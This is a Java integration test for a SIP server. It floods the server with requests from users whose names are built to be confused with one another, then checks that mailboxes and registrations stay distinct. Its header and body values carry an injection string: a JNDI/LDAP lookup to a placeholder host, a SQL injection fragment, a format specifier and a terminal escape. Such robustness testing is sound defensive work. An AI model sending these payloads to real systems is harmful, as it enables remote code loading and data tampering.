package org.msilo.badinput;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.msilo.badinput.Line.Answer;
import org.msilo.store.HostileNames;
import org.msilo.testing.TestServer;

/**
 * Users with names made to be mistaken for others register and get mail, in any spelling of their
 * names, thousands at a time: no two share a mailbox or a binding, and nobody has two.
 */
class HostileMixIT {
  private static final int MESSAGES = 12_000;
  private static final int REGISTERS = 12_000;
  private static final int IN_FLIGHT = 64;
  private static final int SENT_AGAIN_AFTER_MILLIS = 500;
  private static final long SEED = Long.getLong("fuzz.seed", 20_261_123L);

  /** Each user has several turns, each with another spelling of its name. */
  private static final int TURNS = 4;

  private final HostileNames names = new HostileNames(SEED);
  private final Map<String, Integer> answers = new HashMap<>();

  @Test
  @Timeout(value = 5, unit = TimeUnit.MINUTES)
  void no_two_users_share_a_mailbox_and_no_user_has_two() throws IOException {
    List<List<Byte>> users = users(MESSAGES / TURNS);
    try (ServerLog log = new ServerLog();
        TestServer server = TestServer.with().start();
        Line line = Line.open("UDP", server.port())) {
      exchange(line, requests("MESSAGE", users, line.port()));
      assertThat(answers).as("seed %d", SEED).isEqualTo(Map.of("MESSAGE 202", MESSAGES));
      assertOneKeyEach(
          users, server.query("select call_id, mailbox from silo order by call_id"), "mailbox");
      server.sql("delete from silo");

      exchange(line, requests("REGISTER", users, line.port()));
      assertThat(answers.get("REGISTER 200")).as("seed %d", SEED).isEqualTo(REGISTERS);
      assertOneKeyEach(
          users,
          server.query("select contact, aor from silo_binding order by contact"),
          "address-of-record");
      assertThat(ServerLog.traces(log.take())).isEmpty();
    }
    System.out.printf("hostile mix: seed %d, users %d, answers %s%n", SEED, users.size(), answers);
  }

  /** Different users, look-alikes next to each other. */
  private List<List<Byte>> users(int count) {
    Set<List<Byte>> users = new HashSet<>();
    while (users.size() < count) {
      users.addAll(names.family());
    }
    return new ArrayList<>(users).subList(0, count);
  }

  /** The turns of all users, mixed: the number of the user and the request by its Call-ID. */
  private Map<String, byte[]> requests(String method, List<List<Byte>> users, int port) {
    List<String> ids = new ArrayList<>();
    for (int user = 0; user < users.size(); user++) {
      for (int turn = 0; turn < TURNS; turn++) {
        ids.add("u" + user + "t" + turn + method);
      }
    }
    Collections.shuffle(ids, new Random(SEED));
    Map<String, byte[]> requests = new LinkedHashMap<>();
    for (String id : ids) {
      String spelt = "sip:" + names.spelling(users.get(user(id))) + "@127.0.0.1";
      requests.put(id, request(method, id, spelt, port).getBytes(ISO_8859_1));
    }
    return requests;
  }

  private static int user(String id) {
    return Integer.parseInt(id.substring(1, id.indexOf('t')));
  }

  private static String request(String method, String id, String user, int port) {
    boolean register = method.equals("REGISTER");
    String evil = "%s%n${jndi:ldap://x}' or '1'='1\u001b[2J";
    return String.join(
        "\r\n",
        method + " " + (register ? "sip:127.0.0.1" : user) + " SIP/2.0",
        "Via: SIP/2.0/UDP 127.0.0.1:" + port + ";rport;branch=z9hG4bK" + id,
        "Max-Forwards: 70",
        "From: <" + (register ? user : "sip:mallory@127.0.0.1") + ">;tag=" + id,
        "To: <" + user + ">",
        "Call-ID: " + id,
        "CSeq: 1 " + method,
        // One contact for all turns of a user: a second binding would be a second user.
        register ? "Contact: <sip:u" + user(id) + "@127.0.0.1:9>" : "Content-Type: text/plain",
        register ? "User-Agent: " + evil : "Subject: " + evil,
        "Content-Length: " + (register ? 0 : evil.length()),
        "",
        register ? "" : evil);
  }

  /** Sends all, so many at a time, again when no answer comes. */
  private void exchange(Line line, Map<String, byte[]> requests) throws IOException {
    Map<String, byte[]> open = new LinkedHashMap<>();
    for (Map.Entry<String, byte[]> request : requests.entrySet()) {
      open.put(request.getKey(), request.getValue());
      line.send(request.getValue());
      while (open.size() >= IN_FLIGHT) {
        hear(line, open);
      }
    }
    while (!open.isEmpty()) {
      hear(line, open);
    }
  }

  private void hear(Line line, Map<String, byte[]> open) throws IOException {
    String heard = line.hear(SENT_AGAIN_AFTER_MILLIS);
    for (Answer answer : Answer.in(heard)) {
      if (open.remove(answer.callId()) != null) {
        answers.merge(
            (answer.callId().endsWith("REGISTER") ? "REGISTER " : "MESSAGE ") + answer.status(),
            1,
            Integer::sum);
      }
    }
    if (heard.isEmpty()) {
      for (byte[] request : open.values()) {
        line.send(request);
      }
    }
  }

  /** Rows of an owner, who is u and a number, and a key: one key for each owner, and none twice. */
  private static void assertOneKeyEach(List<List<Byte>> users, List<String> rows, String what) {
    Map<Integer, Set<String>> keys = new HashMap<>();
    for (String row : rows) {
      int blank = row.indexOf(' ');
      String owner = row.substring(0, blank).replaceFirst("^<?sip:", "").replaceFirst("[t@].*", "");
      keys.computeIfAbsent(Integer.parseInt(owner.substring(1)), it -> new HashSet<>())
          .add(row.substring(blank + 1));
    }
    assertThat(keys).as("users with a " + what).hasSameSizeAs(users);
    Set<String> all = new HashSet<>();
    keys.forEach(
        (user, its) -> {
          assertThat(its).as("%s of %s", what, users.get(user)).hasSize(1);
          assertThat(all.addAll(its)).as("%s of %s is its own", what, users.get(user)).isTrue();
        });
  }
}
